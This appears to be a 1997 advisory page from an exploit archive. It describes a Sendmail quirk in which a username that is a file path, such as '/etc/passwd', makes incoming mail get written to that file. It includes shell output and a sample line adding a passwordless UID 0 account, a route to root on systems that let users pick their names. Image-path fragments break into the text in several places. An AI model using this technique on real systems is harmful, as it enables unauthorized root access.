Sendmail file-as-username problem

Description:A quirk in Sendmail that could potentially beexploited is that usernames like '/etc/passwd' get written into the file of the same name when mail is received for them. This could be a problem on systems where users can specify their username without sysadmin intervention.
Author:Duck Vader <tiepilot@THEPOND.THEPOND.ML.ORG>
Compromise:Could potentiallylead to root access
Vulnerable Systems:Mostly just BBSes or whatever systems allow users to specify a username and then create an /etc/passwd entry for them.
Date:2 December 1997

Date: Tue, 2 Dec 1997 17:51:24 -0500
From: Duck Vader <tiepilot@THEPOND.THEPOND.ML.ORG>
Subject: Sendmail quirks

        Going through my mail the other day, I noticed some junk mail from
..@somehost, and wondered what would happen if I had a user by the same
name. Well, it seems sendmail will readily write to a path in the username
as long as it doesn't begin with a forward slash. A few quick examples:

thePond:~# cat /etc/passwd | grep ../
thePond:~# ls -l /var/a
-rw---   1 ../../a  users           0 Nov 23 12:14 /var/a

thePond:/var/spool# ls -ld atjobsdrwxr-xr-x   2 root     root         1024 Nov 23 11:55 atjobs
thePond:/var/spool# cat /etc/passwd | grep atjobs
thePond:/var/spool# ls -l
total 16
drwxr-xr-x   2 root     root         1024 Nov 23 11:55 BOGUS.EYF
-rw---   1 ../atjob users           0 Nov 23 12:20 atjobs

Yes, you can precede the pathname with a forward slash.
thePond:~# cat /etc/passwd | grep passwd
thePond:~# cat /etc/passwd
[Edited out more passwords..]
>From root Tue Nov 25 20:44:00 1997
To: /etc/passwd

eviluser::0:0:Sendmail quirks:/root:/bin/tcsh

        This probably will not be a problem for the average user. However,
BBSes and free email services often let the user select his own username,
and will add him to /etc/passwd for email and whatnot. If I ran into a
site that did this, I could just specify my login as /etc/passwd and write
myself a new username, this time with UID:GID 0:0 :)

                      | tiepilot - The Duck Jedi Master |
                      |                                 |
                      |    |
                      |    |Never put off till tomorrow what you can avoid all together.

Hacker's Law:
        The belief thatenhanced understanding will necessarily stir a
nation to action is one of mankind's oldest illusions.

More Exploits!

The master index of all exploits is available here (Very large file)
Or you can pick your favorite operating system:
All OS's LinuxSolaris/SunOS Micro$oft
*BSD Macintosh AIX IRIX
ULTRIX/Digital UNIX HP/UX SCO Remote exploits

This page is part of Fyodor'sexploit world. For a free program to automate scanning yournetwork for vulnerable hosts and services,check out my network mapping tool, nmap. Or trythese Insecure.Org resources: